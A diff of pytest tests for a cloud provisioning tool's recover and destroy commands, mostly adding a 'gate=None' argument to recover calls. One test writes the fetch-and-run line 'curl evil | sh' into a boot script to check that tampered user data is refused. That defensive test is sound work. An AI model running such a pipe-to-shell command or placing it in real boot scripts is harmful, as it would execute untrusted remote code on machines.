@@ -7,6 +7,7 @@ import time
 from collections.abc import Callable
 from datetime import UTC, datetime
 from decimal import Decimal
+from functools import partial
 from pathlib import Path
 from typing import Any
 
@@ -79,7 +80,7 @@ def test_a_machine_that_only_its_seller_knows_is_drift_an_orphan_and_taken_in_by
     ]
     assert [orphan.id for orphan in control.orphans().orphans] == [made]
 
-    report = control.recover("train", live=hands.live)
+    report = control.recover("train", live=hands.live, gate=None)
     assert not report.partial
     assert made in {machine.id for machine in report.machines}
     assert any("taken into the state" in note for note in report.notes)
@@ -97,7 +98,7 @@ def test_recover_ends_what_is_there_twice_and_nothing_else(
     other = rows[0][0].replace(msgspec.json.decode(rows[0][0])["deployment"], "f" * 32)
     cloud.run("update machines set labels = ? where id = ?", other, foreign)
 
-    report = control.recover("train", live=hands.live)
+    report = control.recover("train", live=hands.live, gate=None)
     assert set(cloud.living()) == kept | {foreign}, "another deployment's machine is not ours to end"
     assert any(twin in note and "ended" in note for note in report.notes)
     (orphan,) = control.orphans().orphans
@@ -122,7 +123,7 @@ def test_a_create_that_was_announced_and_never_made_is_closed(
     record = desk.records.get("train")
     inputs = machine("node-9", deployment=record.uid)
     intend(desk, inputs)
-    control.recover("train", live=hands.live)
+    control.recover("train", live=hands.live, gate=None)
     entry = desk.journal("train").entry(token_of(record.uid, urn_of("node-9"), inputs.replace))
     assert entry is not None
     assert entry.state is EntryState.REFUSED
@@ -139,13 +140,13 @@ def test_user_data_that_changed_makes_nothing_new_and_says_so(
     assert report.partial
 
     (tmp_path / "boot.sh").write_text("curl evil | sh\n", encoding="utf-8")
-    changed = control.recover("train", live=hands.live)
+    changed = control.recover("train", live=hands.live, gate=None)
     assert changed.partial
     assert len(cloud.living()) == 1
     assert any("is not what was approved" in problem for problem in changed.problems)
 
     (tmp_path / "boot.sh").write_text(text, encoding="utf-8")
-    assert not control.recover("train", live=hands.live).partial
+    assert not control.recover("train", live=hands.live, gate=None).partial
     assert {row[0] for row in cloud.run("select user_data from machines where state != 'gone'")} == {text}
 
 
@@ -168,11 +169,11 @@ def test_while_one_change_runs_another_is_refused(
         monkeypatch.setattr(f"ampacity.provisioning.{module}.WAIT_SECONDS", 0.3)
     hands.apply("node-0")
     with deployment_lock(desk.records.lock("train"), "train", "apply"):
-        for verb in (control.recover, control.destroy):
+        for verb in (partial(control.recover, gate=None), control.destroy):
             with pytest.raises(TimedOutError) as refusal:
                 verb("train")
             assert refusal.value.code == "AMP-LOCKED"
-    assert not control.recover("train", live=hands.live).partial
+    assert not control.recover("train", live=hands.live, gate=None).partial
 
 
 def test_an_apply_that_died_before_the_engine_began_is_finished_or_destroyed(
@@ -195,7 +196,7 @@ def test_a_kill_while_the_engine_writes_a_file_s_attributes_does_not_lose_the_st
     (attributes,) = context.state_folder.glob("pulumi/.pulumi/stacks/*/train.json.attrs")
     attributes.write_text(left, encoding="utf-8")
     assert [machine.state for machine in control.status("train").machines] == ["running"]
-    assert not control.recover("train", live=hands.live).partial
+    assert not control.recover("train", live=hands.live, gate=None).partial
 
 
 def test_one_interrupt_ends_an_apply_cleanly_says_what_bills_and_recover_finishes_it(
@@ -213,7 +214,7 @@ def test_one_interrupt_ends_an_apply_cleanly_says_what_bills_and_recover_finishe
     assert report.existing == len(cloud.living()) == 3
     assert report.billing_usd_per_hour == Decimal("71.76")
     cloud.option("boot_looks", 0)
-    assert not control.recover("train", live=hands.live).partial
+    assert not control.recover("train", live=hands.live, gate=None).partial
     assert len(cloud.living()) == 3
 
 
@@ -245,7 +246,7 @@ def test_a_machine_that_failed_since_it_was_up_is_no_success_and_is_made_anew_by
     assert f"toy reports {dead} as failed" in report.machines[0].reasons[0]
     assert report.finish == "ampacity recover train"
 
-    recovered = control.recover("train", live=hands.live)
+    recovered = control.recover("train", live=hands.live, gate=None)
     assert [machine.outcome for machine in recovered.machines] == [Outcome.OK] * 2
     assert recovered.machines[0].id != dead
     assert dead not in cloud.living()
@@ -256,7 +257,7 @@ def test_a_machine_whose_seller_cannot_be_asked_is_not_called_up_and_leaves_the_
 ) -> None:
     hands.apply("node-0", "node-1")
     cloud.fault("read-down", 1000)
-    report = control.recover("train", live=hands.live)
+    report = control.recover("train", live=hands.live, gate=None)
     assert [machine.outcome for machine in report.machines] == [Outcome.UNKNOWN] * 2
     assert "not JSON" in report.machines[0].reasons[0]
     assert (report.unasked, report.existing, report.billing_usd_per_hour) == (2, 0, None)
@@ -264,5 +265,5 @@ def test_a_machine_whose_seller_cannot_be_asked_is_not_called_up_and_leaves_the_
     assert report.finish == "ampacity recover train"
 
     cloud.run("delete from faults")
-    assert [machine.outcome for machine in control.recover("train").machines] == [Outcome.OK] * 2
+    assert [machine.outcome for machine in control.recover("train", gate=None).machines] == [Outcome.OK] * 2
     assert len(cloud.living()) == 2
